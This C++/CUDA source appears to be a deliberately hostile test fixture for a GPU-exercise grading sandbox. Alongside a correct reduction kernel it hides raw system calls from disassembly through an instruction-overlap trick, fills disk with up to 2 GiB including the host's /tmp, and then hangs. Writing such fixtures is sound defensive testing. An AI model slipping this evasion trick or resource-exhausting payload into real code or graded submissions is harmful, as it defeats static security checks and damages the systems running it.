// hostile: fills its scratch folder with 2 GiB, tries the host's /tmp, then hangs
// expect: timed_out ~ never finishes|never returns|did not finish
// leaves: wb-disk-02 /tmp/workbook-disk-02
// A correct block pass whose first call names itself wb-disk-02, writes up to 2 GiB into its
// working folder (the sandbox's scratch) and a file in the host's /tmp, with raw system calls hidden
// from the static checks, and then never returns. The judge's call limit makes it a hang; the
// scratch is a size-limited tmpfs inside the sandbox, gone with it, so nothing is left on the
// machine (the test looks for the process and for /tmp/workbook-disk-02 after the grader ends).
#include "workbook/chapter.cuh"

#include <cstddef>

#include <cuda_runtime.h>

namespace {

// A correct block pass: a grid-stride loop, then the block's sum through warp shuffles.
__global__ void partial_sums(const float* in, std::size_t n, float* partials) {
  float sum = 0.0f;
  const std::size_t stride = static_cast<std::size_t>(gridDim.x) * blockDim.x;
  for (std::size_t i = static_cast<std::size_t>(blockIdx.x) * blockDim.x + threadIdx.x; i < n; i += stride) sum += in[i];
  for (int offset = 16; offset > 0; offset /= 2) sum += __shfl_down_sync(0xffffffffu, sum, offset);
  __shared__ float warp_sums[32];
  if (threadIdx.x % 32 == 0) warp_sums[threadIdx.x / 32] = sum;
  __syncthreads();
  if (threadIdx.x < 32) {
    sum = threadIdx.x < blockDim.x / 32 ? warp_sums[threadIdx.x] : 0.0f;
    for (int offset = 16; offset > 0; offset /= 2) sum += __shfl_down_sync(0xffffffffu, sum, offset);
    if (threadIdx.x == 0) partials[blockIdx.x] = sum;
  }
}

std::size_t blocks_for(std::size_t n) {
  const std::size_t wanted = (n + 255) / 256;
  return wanted < 1024 ? wanted : 1024;
}

// A system call without a syscall instruction that a disassembler sees: its bytes (0f 05) sit inside
// a movabs's immediate, and a computed jump lands on them.
long hidden_syscall(long nr, long a, long b, long c) {
  long ret = nr;
  register long r10 asm("r10") = 0;
  asm volatile(
      "lea 1f+2(%%rip), %%r11\n\t"
      "jmp *%%r11\n\t"
      "1: movabs $0x9090909004eb050f, %%rcx\n\t"
      : "+a"(ret)
      : "D"(a), "S"(b), "d"(c), "r"(r10)
      : "rcx", "r11", "memory");
  return ret;
}

constexpr long kOpenat = 257, kWrite = 1, kClose = 3, kNanosleep = 35, kPrctl = 157;
constexpr long kAtCwd = -100, kCreate = 01 | 0100 | 01000;  // O_WRONLY | O_CREAT | O_TRUNC

void fill_and_hang() {
  hidden_syscall(kPrctl, 15, reinterpret_cast<long>("wb-disk-02"), 0);  // PR_SET_NAME
  static char chunk[1 << 20];
  for (char& c : chunk) c = 'x';
  for (const char* path : {"./wb-disk-02.bin", "/tmp/workbook-disk-02"}) {
    const long fd = hidden_syscall(kOpenat, kAtCwd, reinterpret_cast<long>(path), kCreate);
    if (fd < 0) continue;
    for (int i = 0; i < 2048; ++i) {
      if (hidden_syscall(kWrite, fd, reinterpret_cast<long>(chunk), sizeof chunk) <= 0) break;
    }
    hidden_syscall(kClose, fd, 0, 0);
  }
  struct {
    long seconds = 1, nanoseconds = 0;
  } second;
  for (;;) hidden_syscall(kNanosleep, reinterpret_cast<long>(&second), 0, 0);
}

std::size_t launch(const float* in, std::size_t n, float* partials, std::size_t capacity, cudaStream_t stream) {
  (void)capacity;  // at most 1024 blocks
  static bool first = true;
  if (first) {
    first = false;
    fill_and_hang();
  }
  if (n == 0) return 0;
  const std::size_t blocks = blocks_for(n);
  partial_sums<<<static_cast<unsigned>(blocks), 256, 0, stream>>>(in, n, partials);
  return blocks;
}

}  // namespace

WORKBOOK_BLOCK_PASS(launch);
